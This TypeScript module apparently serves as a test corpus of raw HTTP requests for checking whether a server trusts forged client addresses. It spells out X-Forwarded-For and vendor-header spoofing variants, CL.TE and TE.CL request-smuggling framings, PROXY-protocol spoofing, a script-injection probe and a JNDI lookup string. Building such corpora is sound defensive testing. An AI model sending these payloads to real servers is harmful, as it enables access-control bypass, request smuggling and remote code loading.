/** Bytes that a visitor may send to get an address of their choice judged. Every address in them is forged. */
export const FORGED = '6.6.6.6'
export const SMUGGLED = '/smuggled'

export interface Shape { readonly name: string, readonly bytes: string }

const f = FORGED
const crlf = (...lines: readonly string[]): string => lines.join('\r\n')

/** One request, which asks to be the last of its connection. */
const get = (lines: readonly string[], path = '/shape'): string => crlf(`GET ${path} HTTP/1.1`, 'Host: app.example',
  'Connection: close', ...lines, '', '')
const post = (lines: readonly string[], body: string): string => crlf('POST /shape HTTP/1.1',
  'Host: app.example', ...lines, '', body)
const smuggled = crlf(`POST ${SMUGGLED} HTTP/1.1`, 'Host: app.example', `X-Forwarded-For: ${f}`, 'Content-Length: 0',
  '', '')
const hex = (text: string): string => text.length.toString(16)

/** Values of X-Forwarded-For. */
const values: readonly string[] = [
  f, `${f}, 127.0.0.11`, `127.0.0.11, ${f}`, `,${f}`, `${f},`, `${f},,`, ', ,', '', ' ', `\t${f}`, `${f}\t`,
    `${f}\t,\t${f}`, `${f} ${f}`,
  `${f}:80`, `${f}:`, `${f}:0`, `${f}:65536`, `${f}:-1`, `[${f}]`, `[${f}]:80`, `"${f}"`, `'${f}'`, `"${f}`, `(${f})`,
  `${f};`, `${f}#`, `${f}\\`,
  `::ffff:${f}`, `[::ffff:${f}]`, `[::ffff:${f}]:443`, '::ffff:606:606', '::FFFF:0606:0606', `::${f}`, `::ffff:0:${f}`,
  `64:ff9b::${f}`,
  '2002:606:606::', '2001:0:0:0:0:0:f9f9:f9f9', 'fe80::1%eth0', '[fe80::1%25eth0]', '2001:db8::1%1', `::ffff:${f}%1`,
  `${f}%1`, '::1%',
  '006.006.006.006', '06.06.06.06', '0x6.0x6.0x6.0x6', '0x06060606', '101058054', '6.6', '6.6.1542', `${f}.`, `${f}.6`,
  `.${f}`, '6..6.6', '+6.6.6.6',
  '6.6.6.-6', '6.6.6.6e0', `${f}/32`, `for=${f}`, 'unknown', '_hidden', 'null', 'undefined', 'localhost', '127.0.0.1',
  '127.0.0.12', '10.0.0.1', '::1',
  '0.0.0.0', '::', '255.255.255.255', '\xef\xbc\x96.6.6.6', `${f}\x0b`, `${f}\x85`, `${f}\xa0`, `${f}\x7f`, '%36.6.6.6',
  '<script>alert(1)</script>', `\${jndi:ldap://${f}/}`, `${f}, `.repeat(300), `${' '.repeat(3000)}${f}`,
  ','.repeat(3000) + f, `${f}${'.6'.repeat(1000)}`,
  ':'.repeat(2000), '1'.repeat(3000), `${f}, 127.0.0.11, 127.0.0.12, 127.0.0.1`
]

/** More header lines, or others. */
const lines: Readonly<Record<string, readonly string[]>> = {
  'two lines': [`X-Forwarded-For: ${f}`, `X-Forwarded-For: ${f}`],
  'three lines, cases mixed': [`x-forwarded-for: ${f}`, `X-FORWARDED-FOR: ${f}`, `X-Forwarded-for: ${f}`],
  'an empty second line': [`X-Forwarded-For: ${f}`, 'X-Forwarded-For:'],
  'sixty lines': Array.from({ length: 60 }, () => `X-Forwarded-For: ${f}`),
  'ninety lines before it': [...Array.from({ length: 90 }, (_, i) => `A-${i}: ${i}`), `X-Forwarded-For: ${f}`],
  'ninety lines after it': [`X-Forwarded-For: ${f}`, ...Array.from({ length: 90 }, (_, i) => `Z-${i}: ${i}`)],
  'a list cut over lines': ['X-Forwarded-For: 6.6', 'X-Forwarded-For: 6.6'],
  'no space': [`X-Forwarded-For:${f}`],
  'a space before the colon': [`X-Forwarded-For : ${f}`],
  'a tab before the colon': [`X-Forwarded-For\t: ${f}`],
  'a space before the name': [`A: b\r\n X-Forwarded-For: ${f}`],
  folded: [`X-Forwarded-For: 127.0.0.11,\r\n ${f}`],
  'folded with a tab': [`X-Forwarded-For: 127.0.0.11,\r\n\t${f}`],
  'folded, nothing first': [`X-Forwarded-For:\r\n ${f}`],
  'ended by LF alone': [`A: b\nX-Forwarded-For: ${f}`],
  'ended by CR alone': [`A: b\rX-Forwarded-For: ${f}`],
  'CR CR LF': [`A: b\r\r\nX-Forwarded-For: ${f}`],
  'a NUL in the value': [`X-Forwarded-For: ${f}\0`],
  'a NUL in the name': [`X-Forwarded-For\0: ${f}`],
  'no colon': ['X-Forwarded-For'],
  'no name': [`: ${f}`],
  underscores: [`X_Forwarded_For: ${f}`],
  'one underscore': [`X-Forwarded_For: ${f}`],
  'a dot': [`X.Forwarded.For: ${f}`],
  'not ASCII': [`X-Forwarded-F\xf6r: ${f}`],
  'X-Real-IP': [`X-Real-IP: ${f}`],
  'X-Real-IP twice': [`X-Real-IP: ${f}`, `x-real-ip: ${f}`],
  Cloudflare: [`CF-Connecting-IP: ${f}`, `CF-Connecting-IPv6: ::ffff:${f}`, `Cf-Pseudo-IPv4: ${f}`, 'CF-Ray: 1',
    'CDN-Loop: cloudflare'],
  'other vendors': ['True-Client-IP', 'X-Client-IP', 'Client-IP', 'X-Cluster-Client-IP', 'Fastly-Client-IP',
    'X-Original-Forwarded-For', 'X-Forwarded',
    'Forwarded-For', 'X-ProxyUser-Ip', 'X-Envoy-External-Address', 'X-Azure-ClientIP',
    'WL-Proxy-Client-IP'].map(name => `${name}: ${f}`),
  Forwarded: [`Forwarded: for=${f}`],
  'Forwarded, quoted': [`Forwarded: for="[::ffff:${f}]:80";proto=https`],
  'Forwarded, a quote left open': [`Forwarded: for="${f}`, `Forwarded: for=${f}`],
  'other paths': [`X-Original-URL: ${SMUGGLED}`, `X-Rewrite-URL: ${SMUGGLED}`, 'X-HTTP-Method-Override: POST',
  `X-Forwarded-Host: ${f}`],
  'names of Object.prototype': [`__proto__: ${f}`, `constructor: ${f}`, `toString: ${f}`, `hasOwnProperty: ${f}`],
  'a long name': [`${'X'.repeat(3000)}: ${f}`],
  'a long value': [`X-Forwarded-For: ${'x'.repeat(7000)}`],
  'HTTP2-Settings': ['Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA', `X-Forwarded-For: ${f}`],
  Expect: ['Expect: 100-continue', `X-Forwarded-For: ${f}`],
  'an expectation that nobody knows': ['Expect: 6.6.6.6', `X-Forwarded-For: ${f}`],
  'Host twice': [`Host: ${f}`, `X-Forwarded-For: ${f}`],
  ...Object.fromEntries([
    'close, X-Forwarded-For', 'X-Forwarded-For', 'x-forwarded-for,X-Real-IP,Forwarded', 'keep-alive,\tX-FORWARDED-FOR',
    'Connection', 'Host', 'upgrade, te',
    ', ,X-Forwarded-For', '"X-Forwarded-For"', 'X_Forwarded_For'
  ].map(option => [`Connection: ${option}`, [`Connection: ${option}`, `X-Forwarded-For: ${f}`]])),
  'Proxy-Connection': ['Proxy-Connection: X-Forwarded-For', 'Keep-Alive: X-Forwarded-For', `X-Forwarded-For: ${f}`]
}

/** What a second request may hide in. */
const chunked = (body: string): string => `${hex(body)}\r\n${body}\r\n0\r\n\r\n`
const framing: Readonly<Record<string, string>> = {
  'CL.TE': post(['Content-Length: 6', 'Transfer-Encoding: chunked'], `0\r\n\r\nG${smuggled}`),
  'CL.TE, whole': post([`Content-Length: ${smuggled.length + 5}`,
    'Transfer-Encoding: chunked'], `0\r\n\r\n${smuggled}`),
  'TE.CL': post(['Transfer-Encoding: chunked', 'Content-Length: 4'], chunked(smuggled)),
  ...Object.fromEntries([
    'Transfer-Encoding: xchunked', 'Transfer-Encoding : chunked', 'Transfer-Encoding:\tchunked',
    'Transfer-Encoding:\x0bchunked', 'Transfer-Encoding: chunked, identity',
    'Transfer-Encoding: identity, chunked', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
    'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
    'A: b\r\n Transfer-Encoding: chunked', 'A: b\nTransfer-Encoding: chunked', 'Transfer-Encoding\r\n : chunked',
    'Transfer-Encoding: "chunked"',
    'Transfer-Encoding: CHUNKED', 'Transfer-Encoding: chunked;a=b', 'Transfer-Encoding: gzip, chunked',
    'Transfer-Encoding:\r\n chunked', 'Transfer_Encoding: chunked',
    'Transfer-Encoding: chunk\0ed', 'TE: chunked', 'Content-Encoding: chunked'
  ].map(line => [line, post([line, `Content-Length: ${smuggled.length + 5}`], `0\r\n\r\n${smuggled}`)])),
  ...Object.fromEntries([
    '0', '+0', '-1', '0x0', '00', '0, 0', '0 0', '1e0', '0\r\nContent-Length: 5', '5\r\nContent-Length: 0',
    '99999999999999999999', '', '0;', '\xd9\xa0'
  ].map(length => [`Content-Length: ${length}`, post([`Content-Length: ${length}`], smuggled)])),
  'Content-Length under another name': post(['Content_Length: 0', `Content-Length: ${smuggled.length}`], smuggled),
  'a body behind GET': get([`Content-Length: ${smuggled.length}`]) + smuggled,
  'a body behind GET, chunked': get(['Transfer-Encoding: chunked']) + chunked(smuggled),
  'a body behind HEAD': crlf('HEAD /shape HTTP/1.1', 'Host: app.example', `Content-Length: ${smuggled.length}`,
    '', smuggled),
  ...Object.fromEntries([
    '0x5', '5 ', ' 5', '+5', '00000005', '5;ext=1', '5;ext="a\r\nb"', `5;${'x'.repeat(5000)}`, '5;\nxx', '5\n',
    '10000000000000005', 'fffffffffffffff5', '-5', '5,5', 'g'
  ].map(size => [`a chunk of ${JSON.stringify(size.slice(0, 20))}`, post(['Transfer-Encoding: chunked'], `${size}\r\nhello\r\n0\r\n\r\n${smuggled}`)])),
  'a chunk ended by LF': post(['Transfer-Encoding: chunked'], `5\nhello\n0\n\n${smuggled}`),
  'a chunk longer than said': post(['Transfer-Encoding: chunked'], `2\r\nhello\r\n0\r\n\r\n${smuggled}`),
  trailers: post(['Transfer-Encoding: chunked', 'Connection: close',
    'Trailer: X-Forwarded-For'], `5\r\nhello\r\n0\r\nX-Forwarded-For: ${f}\r\nConnection: X-Forwarded-For\r\n\r\n`),
  'trailers that frame': post(['Transfer-Encoding: chunked'], `0\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n${smuggled}`),
  'chunks in HTTP/1.0': crlf('POST /shape HTTP/1.0', 'Connection: keep-alive', 'Transfer-Encoding: chunked',
    '', chunked('hello') + smuggled),
  'Expect, and the body at once': post(['Expect: 100-continue', 'Content-Length: 5'], `hello${smuggled}`)
}

/** Request lines, and more than one request. */
const forged = `X-Forwarded-For: ${f}`
const first = (line: string, ...more: readonly string[]): string => crlf(line, 'Host: app.example',
  'Connection: close', forged, ...more, '', '')
const requests: Readonly<Record<string, string>> = {
  ...Object.fromEntries([
    'GET http://app.example/shape HTTP/1.1', `GET http://${f}/shape HTTP/1.1`,
    `GET https://user:secret@${f}:80/shape HTTP/1.1`, `GET //${f}/shape HTTP/1.1`,
    `GET ${f}/shape HTTP/1.1`, 'GET http:///shape HTTP/1.1', 'GET HTTP://APP.EXAMPLE HTTP/1.1', 'OPTIONS * HTTP/1.1',
    `CONNECT ${f}:80 HTTP/1.1`, 'TRACE /shape HTTP/1.1',
    'GET /shape HTTP/1.0', 'GET /shape HTTP/0.9', 'GET /shape HTTP/1.2', 'GET /shape HTTP/2.0', 'GET /shape HTTP/1.1 ',
    'get /shape HTTP/1.1', 'GET\t/shape\tHTTP/1.1',
    'GET  /shape  HTTP/1.1', 'GET /shape', 'GET /%00 HTTP/1.1', 'GET /..%2f..%2fshape HTTP/1.1',
    'GET /shape#a HTTP/1.1', 'GET /sh\xe4pe HTTP/1.1',
    'GET /shape\0 HTTP/1.1', `GET /${'x'.repeat(5000)} HTTP/1.1`, `GET /shape?${f}\rX: HTTP/1.1`,
    'SMUGGLE /shape HTTP/1.1', 'PRI * HTTP/2.0', 'QUERY /shape HTTP/1.1'
  ].map(line => [line.slice(0, 60), first(line)])),
  'no Host': crlf('GET /shape HTTP/1.1', 'Connection: close', forged, '', ''),
  'an empty Host': crlf('GET /shape HTTP/1.1', 'Host:', 'Connection: close', forged, '', ''),
  'an address as Host': crlf('GET /shape HTTP/1.1', `Host: ${f}`, 'Connection: close', forged, '', ''),
  'a list as Host': crlf('GET /shape HTTP/1.1', `Host: app.example, ${f}`, 'Connection: close', forged, '', ''),
  'HTTP/1.0, kept alive': crlf('GET /shape HTTP/1.0', 'Connection: keep-alive', forged, '', '') + smuggled,
  'empty lines first': `\r\n\r\n${first('GET /shape HTTP/1.1')}`,
  'five at once': crlf('GET /shape HTTP/1.1', 'Host: app.example', forged, '',
    '').repeat(4) + first('GET /shape HTTP/1.1'),
  'a write and what follows it': post([forged, 'Content-Length: 5'], 'hello') + smuggled,
  'PROXY protocol': `PROXY TCP4 ${f} 127.0.0.1 1 80\r\n${first('GET /shape HTTP/1.1')}`,
  'PROXY protocol, second version': `\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c\x06\x06\x06\x06\x7f\0\0\x01\0\x50\0\x50${first('GET /shape HTTP/1.1')}`,
  'a WebSocket': crlf('GET /shape HTTP/1.1', 'Host: app.example', 'Connection: Upgrade', 'Upgrade: websocket',
    'Sec-WebSocket-Version: 13',
    'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==', forged, '', '') + smuggled,
  'Upgrade: h2c': first('GET /shape HTTP/1.1', 'Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c',
    'HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA') + smuggled,
  'Upgrade: TLS/1.0': first('OPTIONS /shape HTTP/1.1', 'Upgrade: TLS/1.0'),
  'a TLS handshake': '\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03',
  'nothing but line ends': '\r\n'.repeat(200)
}

const named = (group: string, shapes: Readonly<Record<string, string>>): Shape[] =>
  Object.entries(shapes).map(([name, bytes]) => ({ name: `${group}: ${name}`, bytes }))

export const shapes: readonly Shape[] = [
  ...values.map(value => ({ name: `X-Forwarded-For: ${JSON.stringify(value.slice(0, 40))}`, bytes: get([`X-Forwarded-For: ${value}`]) })),
  ...Object.entries(lines).map(([name, more]) => ({ name: `header lines: ${name}`, bytes: get(more) })),
  ...named('framing', framing),
  ...named('request', requests)
]
